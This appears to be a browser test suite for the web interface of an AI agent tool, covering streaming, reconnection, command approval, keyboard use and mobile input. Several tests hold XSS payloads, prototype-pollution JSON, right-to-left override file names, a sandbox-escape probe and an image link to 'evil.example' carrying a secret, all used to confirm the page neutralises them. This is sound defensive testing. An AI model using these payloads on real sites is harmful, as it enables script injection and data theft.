/** The page in a real Chromium, with a played host: what is drawn, what the keys do, what comes back after a cut. */
import { expect } from "bun:test";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";

import {
	answer,
	ask,
	call,
	demoSessions,
	type MockSession,
	result,
	shellApproval,
	stream,
	text,
	user,
} from "@tau/web/testing";
import type { AgentFacts } from "@tau/wire";
import type { Page } from "puppeteer-core";

import { needs } from "../support/needs.ts";
import { png } from "../support/read-fixture.ts";
import { textOf, until, untilInArtifact, untilText } from "./chromium.ts";
import { playedPage } from "./played-page.ts";

const test = needs("chromium");
const { host, chromium, addressOf, ...web } = await playedPage({ sessions: demoSessions() });

function played(id: string, name = id): MockSession {
	const session = web.played(id, name);
	session.handlers.list_commands = () => ({
		commands: [{ name: "compact", description: "Free up context", right: "control", source: "tau" }],
	});
	return session;
}

test("an answer is drawn while it comes, and its finished blocks are never drawn again", async () => {
	const session = played("grows");
	session.message(user("Write"));
	const page = await chromium.open(addressOf("grows"));
	await untilText(page, "Write");
	const halfway = Promise.withResolvers<void>();
	let pieces = 0;
	const whole = "# First\n\nA paragraph.\n\n- one\n- two\n\n```ts\nconst a = 1;\n```\n\nThe end.";
	const done = stream(session, whole, 20, async () => {
		if (++pieces === 12) await halfway.promise;
	});
	await untilText(page, "A paragraph.");
	await page.evaluate('document.querySelector(".block h1").dataset.mark = "kept"');
	halfway.resolve();
	await done;
	await untilText(page, "The end.");
	expect(await page.evaluate('document.querySelector(".block h1").dataset.mark')).toBe("kept");
	await until(page, '!!document.querySelector(".code .hl-keyword")');
	expect(await page.evaluate('document.querySelectorAll(".block.open").length')).toBe(0);
});

test("regression: two settings that are changed one after the other both stay, whatever comes in between", async () => {
	const session = played("settings");
	const values: Record<string, unknown> = { quiet: false, steps: 3, order: "first", name: "old" };
	const release = Promise.withResolvers<void>();
	session.handlers.run_command = () => ({
		data: {
			settings: Object.entries(values).map(([path, value]) => ({
				path,
				value,
				...(path === "order" ? { choices: ["first", "last"] } : {}),
			})),
		},
	});
	session.handlers.set_setting = async ({ path, value }) => {
		// The first change is answered when all have been made.
		if (path === "quiet") await release.promise;
		values[String(path)] = value;
	};
	const page = await chromium.open(addressOf("settings"));
	await page.waitForSelector("#composer");
	await page.type("#composer", "/settings");
	await page.keyboard.press("Enter");
	const field = (path: string): string =>
		`[...document.querySelectorAll(".panel .settings li")].find((each) => each.innerText.includes("${path}"))?.querySelector("input, select")`;
	await until(page, `!!${field("name")}`);
	expect(await page.evaluate('document.activeElement.getAttribute("aria-label")')).toBe("Search settings");
	await page.evaluate(`${field("quiet")}.click()`);
	await page.evaluate(
		`{ const order = ${field("order")}; order.value = "last"; order.dispatchEvent(new Event("change", { bubbles: true })); }`,
	);
	await page.evaluate(`${field("steps")}.select()`);
	await page.keyboard.type("12");
	await page.keyboard.press("Enter");
	await page.evaluate(`${field("name")}.select()`);
	await page.keyboard.type("new");
	// The lists that the changes ask for are drawn while the user still types.
	release.resolve();
	await until(page, `${field("quiet")}.checked && ${field("order")}.value === "last"`);
	await page.keyboard.type(" name");
	await page.keyboard.press("Enter");
	const shown = `[${["quiet", "order", "steps", "name"].map((path) => `${field(path)}.${path === "quiet" ? "checked" : "value"}`).join(", ")}].join()`;
	await until(page, `${shown} === "true,last,12,new name"`);
	while (values.name !== "new name") await page.evaluate("new Promise(requestAnimationFrame)");
	expect(values).toEqual({ quiet: true, steps: 12, order: "last", name: "new name" });
	await until(page, `${shown} === "true,last,12,new name"`);
});

test("a reload in the middle of an answer shows all of it, and the draft is still there", async () => {
	const session = played("reloaded");
	const page = await chromium.open(addressOf("reloaded"));
	await page.waitForSelector("#composer");
	await page.type("#composer", "half a thought");
	const release = Promise.withResolvers<void>();
	let pieces = 0;
	const done = stream(session, "The first half. The second half.", 2, async () => {
		if (++pieces === 1) await release.promise;
	});
	await untilText(page, "The first half.");
	await page.reload();
	await untilText(page, "The first half.");
	expect(await page.$eval("#composer", (field) => (field as { value?: string }).value)).toBe(
		"half a thought",
	);
	release.resolve();
	await done;
	await untilText(page, "The second half.");
});

test("a network that was cut comes back with nothing missing and nothing doubled", async () => {
	const session = played("cut");
	session.message(user("Before"));
	const page = await chromium.open(addressOf("cut"));
	await untilText(page, "Before");
	host.cut(true);
	await untilText(page, "Connecting again");
	for (let n = 0; n < 5; n++) session.message(user(`while away ${n}`));
	host.cut(false);
	await untilText(page, "while away 4");
	const shown = await textOf(page, ".transcript");
	expect([...(shown.match(/while away \d/g) ?? [])].join()).toBe(
		[0, 1, 2, 3, 4].map((n) => `while away ${n}`).join(),
	);
	expect(shown).not.toContain("Connecting");
});

test("hostile Markdown, names, titles and output are text: nothing runs, nothing is loaded", async () => {
	const evil = '<img src=x onerror="window.hacked=1"><script>window.hacked=2</script>';
	const session = played("evil", `Title ${evil}`);
	session.message(user(`${evil} [a](javascript:window.hacked=3)`));
	session.message(
		answer([
			text(
				[
					evil,
					"[click](javascript:window.hacked=4) [page](https://example.com/a) ![pixel](https://evil.example/?secret)",
					'<a href="#/s/other" id="page" onclick="window.hacked=5">inside</a> <form action="/api"><button>send</button></form>',
					'<svg><animate onbegin="window.hacked=6" /></svg><iframe src="/"></iframe><style>body{display:none}</style>',
					`${"> ".repeat(3000)}deep`,
				].join("\n\n"),
			),
			call("evil-1", `bash${evil}`, { command: `echo ${evil}`, "<b>": evil }),
		]),
	);
	session.message(
		result("evil-1", "bash", `\u001b]0;title\u0007\u001b[31mred\u001b[0m ${evil}`, {
			patch: `--- ${evil}\n+++ ${evil}\n@@ -1 +1 @@\n-a\n+${evil}`,
		}),
	);
	const requested: string[] = [];
	const page = await chromium.open("about:blank");
	page.on("request", (request) => requested.push(request.url()));
	await page.goto(addressOf("evil"));
	await untilText(page, "deep");
	expect(await page.evaluate("window.hacked")).toBeUndefined();
	expect(
		await page.evaluate(
			'document.querySelectorAll(".markdown :is(script,iframe,form,style,svg,[onclick],[id])").length',
		),
	).toBe(0);
	expect(requested.filter((url) => !url.startsWith(host.url))).toEqual([]);
	const links = await page.evaluate(
		'[...document.querySelectorAll(".markdown a")].map((a) => [a.href, a.rel, a.target])',
	);
	expect(links).toEqual([["https://example.com/a", "noopener noreferrer nofollow", "_blank"]]);
	expect(await textOf(page, ".markdown .remote-image:not(:disabled)")).toBe("Load image from evil.example");
	expect(await textOf(page, ".bar")).toContain("<script>");
});

test("names that turn the direction of text, and fields named like prototypes, change nothing of the page", async () => {
	const session = played("odd", "Notes \u202egnp.exe");
	const odd = JSON.parse(
		'{"path":"a\u202etxt.sh","__proto__":{"hacked":1},"constructor":{"prototype":{"hacked":2}}}',
	) as Record<string, unknown>;
	session.message(answer([call("odd-1", "__proto__", odd), text("Written.")]));
	session.message(result("odd-1", "constructor", "ok", odd));
	session.append(
		session.entry("custom_message", { customType: "__proto__", content: "own", display: true, details: odd }),
	);
	session.change(JSON.parse('{"__proto__":{"hacked":3},"goal":null}') as object);
	session.emit(JSON.parse('{"type":"__proto__"}') as Parameters<typeof session.emit>[0]);
	const page = await chromium.open(addressOf("odd"));
	await untilText(page, "Written.");
	expect(await page.evaluate("({}).hacked ?? Object.prototype.hacked ?? [].hacked")).toBeUndefined();
	expect(await textOf(page, ".bar")).toContain("Notes gnp.exe");
	expect(await textOf(page, ".call .line-subject")).toBe("atxt.sh");
	expect(await textOf(page, ".sidebar")).not.toContain("\u202e");
	await page.type("#composer", "still works");
	await until(page, 'document.querySelector("#composer").value === "still works"');
});

test("files that are dropped beside the composer are added, HTML that is dropped stays text, and the page stays", async () => {
	played("drops", "drops").message(user("Hello"));
	const page = await chromium.open(addressOf("drops"));
	await untilText(page, "Hello");
	const drop = (fill: string, target: string): string => `(() => {
		const dataTransfer = new DataTransfer();
		${fill}
		const event = new DragEvent("drop", { bubbles: true, cancelable: true, dataTransfer });
		document.querySelector("${target}").dispatchEvent(event);
		return event.defaultPrevented;
	})()`;
	const file =
		'dataTransfer.items.add(new File(["<script>window.hacked=1</script>"], "x.html", { type: "text/html" }));';
	expect(await page.evaluate(drop(file, ".transcript"))).toBe(true);
	await untilText(page, "x.html", ".attachments");
	const html = `dataTransfer.setData("text/html", "<img src=x onerror='window.hacked=1'>"); dataTransfer.setData("text/plain", "words");`;
	expect(await page.evaluate(drop(html, ".transcript"))).toBe(false);
	expect(await page.evaluate("window.hacked")).toBeUndefined();
	expect(page.url()).toBe(addressOf("drops"));
});

test("a question shows the whole command, is answered by one key, and only once", async () => {
	const session = played("asks");
	session.message(user("Push"));
	const answers: unknown[] = [];
	session.handlers.answer_request = ({ requestId, answer: given }) => {
		answers.push(given);
		session.emit({ type: "request_closed", id: String(requestId), answered: true });
	};
	const page = await chromium.open(addressOf("asks"));
	await untilText(page, "Push");
	ask(session, shellApproval);
	await untilText(page, "git push --force-with-lease origin parser", ".request");
	await until(page, 'document.querySelector(".choice.allow").ariaDisabled === "false"');
	await until(page, 'document.activeElement?.closest(".request") != null');
	await page.keyboard.press("Enter");
	await page.keyboard.press("1");
	await page.keyboard.press("1");
	await until(page, '!document.querySelector(".request")');
	expect(answers).toEqual([{ choice: "once" }]);
});

test("a long command cannot be allowed before its end was seen", async () => {
	const session = played("long");
	const command = Array.from({ length: 200 }, (_, line) => `echo ${line}`).join("\n");
	const answers: unknown[] = [];
	session.handlers.answer_request = ({ answer: given }) => void answers.push(given);
	ask(session, { ...shellApproval, touches: [{ kind: "exec", command, cwd: "/" }] } as typeof shellApproval);
	const page = await chromium.open(addressOf("long"));
	await untilText(page, "echo 199", ".request");
	await page.click(".choice.allow");
	expect(answers).toEqual([]);
	await page.evaluate('document.querySelector(".approval-body").scrollTo(0, 1e6)');
	await until(page, 'document.querySelector(".choice.allow").ariaDisabled === "false"');
	await page.click(".choice.allow");
	await until(page, 'document.querySelector(".request").ariaBusy === "true"');
	expect(answers).toEqual([{ choice: "once" }]);
});

test("ten thousand messages open at their end with a few hundred nodes, and the earlier ones come by scrolling", async () => {
	const session = played("many");
	for (let n = 0; n < 5000; n++) {
		session.entries.push(session.entry("message", { message: user(`question ${n}`) }));
		session.entries.push(
			session.entry("message", { message: answer([text(`answer ${n}\n\n${"word ".repeat(100)}`)]) }),
		);
	}
	const page = await chromium.open(addressOf("many"));
	await untilText(page, "answer 4999");
	expect(Number(await page.evaluate('document.querySelectorAll("*").length'))).toBeLessThan(3000);
	const first = 'document.querySelector(".transcript").innerText.match(/question (\\d+)/)?.[1]';
	await until(page, `(document.querySelector(".transcript").scrollTo(0, 0), ${first} < 4750)`);
	expect(session.received.some(({ type }) => type === "get_entries")).toBe(true);
});

test("everything is reached by the keyboard: commands, palette, panels, help, sessions", async () => {
	const session = played("keys");
	session.message(user("Hello"));
	session.handlers.run_command = ({ name }) => ({ text: `ran ${String(name)}` });
	const page = await chromium.open(addressOf("keys"));
	await page.waitForSelector("#composer");
	await page.keyboard.type("/com");
	await untilText(page, "Free up context", ".suggestions");
	await page.keyboard.press("Tab");
	await page.keyboard.press("Enter");
	await untilText(page, "ran compact");
	await page.keyboard.down("Control");
	await page.keyboard.press("k");
	await page.keyboard.up("Control");
	await until(page, "document.activeElement?.closest('.palette') != null");
	await page.keyboard.type("Overview");
	await page.keyboard.press("Enter");
	await untilText(page, "Usage", ".panel");
	await page.keyboard.press("Escape");
	await until(page, '!document.querySelector(".panel")');
	await page.evaluate("document.activeElement.blur()");
	await page.keyboard.press("?");
	await untilText(page, "In the composer", ".help");
	await page.keyboard.press("Escape");
	await until(page, '!document.querySelector(".help")');
});

test("a document of the model runs in a frame of its own and cannot reach the page", async () => {
	const session = played("artifact");
	const page = await chromium.open("about:blank");
	const probe =
		'<p id=p>made</p><script>let r=[];try{r.push(parent.document.title)}catch{r.push("no page")}try{r.push(localStorage.length)}catch{r.push("no store")}fetch("/api/sessions").then(()=>r.push("net"),()=>r.push("no net")).then(()=>{p.textContent=r.join()})</script>';
	session.message(answer([text(`\`\`\`html\n${probe}\n\`\`\``)]));
	await page.goto(addressOf("artifact"));
	await page.waitForSelector("[data-action=open-artifact]");
	await page.click("[data-action=open-artifact]");
	await untilInArtifact(page, 'document.body?.textContent.includes("no page,no store,no net")');
});

test("a document that hangs is ended, the page continues, and it can be started again", async () => {
	const session = played("hangs");
	session.message(
		answer([text("```html\n<p>busy</p><script>setTimeout(() => { for (;;); }, 500)</script>\n```")]),
	);
	const page = await chromium.open(addressOf("hangs"));
	await page.waitForSelector("[data-action=open-artifact]");
	await page.click("[data-action=open-artifact]");
	await untilText(page, "The document did not answer and was ended.", ".panel");
	expect(await page.evaluate('document.querySelectorAll("iframe").length')).toBe(0);
	await page.click(".panel .notice button");
	await page.waitForSelector("iframe");
});

/** By its own click: it may be covered by what is above the composer. */
const clickButton = (page: Page, label: string): Promise<unknown> =>
	until(
		page,
		`(() => { const button = [...document.querySelectorAll(".panel button")].find((each) => each.innerText.trim() === ${JSON.stringify(label)}); button?.click(); return !!button; })()`,
	);

test("agents are a tree with their conversations; one that works is steered and stopped", async () => {
	const session = played("agents");
	const agent = (id: string, name: string, more: object = {}): AgentFacts => ({
		id,
		name,
		agent: "task",
		model: "played-1",
		task: `work of ${name}`,
		state: "running",
		lastAction: "reads",
		tokens: 10,
		cost: 0.01,
		turns: 1,
		startedAt: Date.now(),
		...more,
	});
	session.change({ agents: [agent("a1", "Lead"), agent("a2", "Scout", { parentId: "a1" })] });
	session.handlers.get_child_messages = () => ({
		messages: [user("find it"), answer([text("Found **it**.")])],
	});
	session.handlers.prompt_child = () => undefined;
	session.handlers.abort_child = () => undefined;
	const page = await chromium.open(addressOf("agents"));
	await page.waitForSelector("#composer");
	await page.click("[aria-label=Overview]");
	await untilText(page, "Scout", ".panel .agents .agents");
	await page.click(".agents .agents .line");
	await untilText(page, "Found it.", ".child-transcript");
	await clickButton(page, "Steer");
	await until(page, 'document.activeElement.matches(".line-dialog input")');
	await page.keyboard.type("look north");
	await page.keyboard.press("Enter");
	await until(page, '!document.querySelector(".line-dialog")');
	await clickButton(page, "Stop");
	const sent = (): object[] => session.received.filter(({ type }) => String(type).endsWith("_child"));
	const deadline = Date.now() + 60_000;
	while (sent().length < 2 && Date.now() < deadline) await page.evaluate("1");
	expect(sent()).toMatchObject([
		{ type: "prompt_child", childId: "a2", message: "look north", streamingBehavior: "steer" },
		{ type: "abort_child", childId: "a2" },
	]);
});

test("findings of a review are listed as text, and go into the prompt", async () => {
	const session = played("review");
	const finding = {
		file: "src/<b>gate</b>.ts",
		line: 7,
		severity: "high",
		reason: "The gate <img src=x onerror=alert(1)> stays open.",
		suggestion: "Close it.",
	};
	session.handlers.run_command = ({ name }) =>
		name === "review"
			? { text: "done", data: { verdict: "request changes", summary: "One thing.", findings: [finding] } }
			: { data: { files: [{ path: "src/gate.ts", added: 2, removed: 1 }] } };
	const page = await chromium.open(addressOf("review"));
	await page.waitForSelector("#composer");
	await page.click("[aria-label=Overview]");
	await clickButton(page, "Changes");
	await untilText(page, "src/gate.ts", ".panel");
	await clickButton(page, "Review the changes");
	await untilText(page, "src/<b>gate</b>.ts:7", ".panel .findings");
	expect(await page.$(".findings img, .findings b")).toBeNull();
	await clickButton(page, "Put into the prompt");
	await until(page, 'document.querySelector("#composer").value.startsWith("Fix this finding in src/")');
});

/** The tests have no types of browsers. */
interface UploadField {
	uploadFile(path: string): Promise<void>;
}

test("on a phone, a program gets the keys that its keyboard lacks, and models, mode and settings are a touch away", async () => {
	const session = played("touch");
	Object.assign(session.handlers, { terminal_input: () => ({}), terminal_resize: () => ({}) });
	const screen = { columns: 80, rows: 24, lines: ["Go on?"], applicationCursor: true, bracketedPaste: false };
	ask(session, { kind: "terminal", id: "t1", openedAt: 0, command: "git tag -s v2", screen });
	const page = await chromium.open(addressOf("touch"), { width: 360, height: 720 });
	await untilText(page, "Go on?", ".terminal-screen");
	// Esc, up and Ctrl+C.
	for (const nth of [1, 3, 5]) await page.tap(`.touch-keys button:nth-child(${nth})`);
	const typed = (): unknown[] =>
		session.received.filter(({ type }) => type === "terminal_input").map(({ data }) => data);
	await until(page, "document.activeElement.matches('.terminal-keys')");
	expect(typed()).toEqual(["\u001b", "\u001bOA", "\u0003"]);
	await page.tap('[aria-label="Overview"]');
	await untilText(page, "Asks before tools run", ".panel");
	await page.tap('[aria-label^="Model:"]');
	await untilText(page, "Models", ".panel h2");
});

test("on a phone, a photo of the camera goes with the prompt", async () => {
	played("photo");
	const page = await chromium.open(addressOf("photo"), { width: 360, height: 720 });
	await page.waitForSelector("#composer");
	const camera = await page.$("input[type=file][capture=environment]");
	const directory = mkdtempSync(join(tmpdir(), "tau-photo-"));
	const photo = join(directory, "photo.png");
	writeFileSync(photo, await png(40, 30));
	try {
		await (camera as UploadField | null)?.uploadFile(photo);
		await untilText(page, "photo.png", ".attachments");
		await page.waitForSelector(".attachment-ready img");
	} finally {
		rmSync(directory, { recursive: true, force: true });
	}
});

test("no page has reported an error", () => {
	// While the network is cut, the proxy of the test answers 503: also for the worker, if the page has come to it.
	const expected =
		/Failed to load resource|WebSocket connection|frame-ancestors|Content Security Policy|Blocked|bad HTTP response code \(503\)/;
	expect(chromium.errors.filter((each) => !expected.test(each))).toEqual([]);
});
